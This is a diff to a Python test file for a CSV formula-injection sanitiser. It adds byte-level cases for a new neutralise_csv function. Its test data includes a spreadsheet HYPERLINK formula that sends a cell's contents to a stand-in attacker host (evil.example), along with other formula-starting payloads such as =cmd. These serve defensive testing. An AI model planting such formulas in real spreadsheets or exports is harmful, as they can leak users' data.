@@ -5,7 +5,7 @@ from __future__ import annotations
 import pyarrow as pa
 import pytest
 
-from core.csv_cells import FORMULA_STARTS, neutralise_cell, neutralise_table
+from core.csv_cells import FORMULA_STARTS, neutralise_cell, neutralise_csv, neutralise_table
 
 CASES = [
     ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
@@ -53,3 +53,28 @@ def test_neutralise_table_matches_the_cell_rule_and_keeps_types():
     assert out["text"] == out["large"] == out["dict"] == expected
     assert out["number"] == table.column("number").to_pylist()
     assert neutralise_table(table).schema.field("number").type == pa.int64()
+
+
+# Whole CSV files as model code writes them: every cell in the rule, numbers and layout kept.
+FILES = [
+    (b"a,b\n=1+1,-5\n", b"a,b\n'=1+1,-5\n"),
+    (b"a,b\r\n@x,+1.5e3\r\n", b"a,b\r\n'@x,+1.5e3\r\n"),  # CRLF kept
+    (b'q\n"=HYPERLINK(""http://e/"",""x"")"\n', b'q\n"\'=HYPERLINK(""http://e/"",""x"")"\n'),
+    (b"n\n-2+3\n-\n.5\n-0.25\n", b"n\n'-2+3\n'-\n.5\n-0.25\n"),
+    (b"\xef\xbb\xbf=cmd,x\n", b"\xef\xbb\xbf'=cmd,x\n"),  # behind a byte-order mark too
+    (b"\xff=,=\xff\n", b"\xff=,'=\xff\n"),  # bytes that are not UTF-8 survive
+    (b'a,"b\n=c"\n', b'a,"b\n=c"\n'),  # a formula start inside a cell is text already
+    (b'x,"  quoted"\n1,2', b'x,"  quoted"\n1,2'),  # nothing to change: the very same bytes
+]
+
+
+@pytest.mark.parametrize(("raw", "expected"), FILES)
+def test_neutralise_csv(raw, expected):
+    assert neutralise_csv(raw) == expected
+
+
+def test_neutralise_csv_refuses_what_it_cannot_check():
+    with pytest.raises(ValueError, match="too large"):
+        neutralise_csv(b"=1\n" * 100, limit=99)
+    with pytest.raises(ValueError, match="could not be checked"):
+        neutralise_csv(b'a\n"' + b"x" * 200_000 + b'"\n')  # past the csv module's field limit
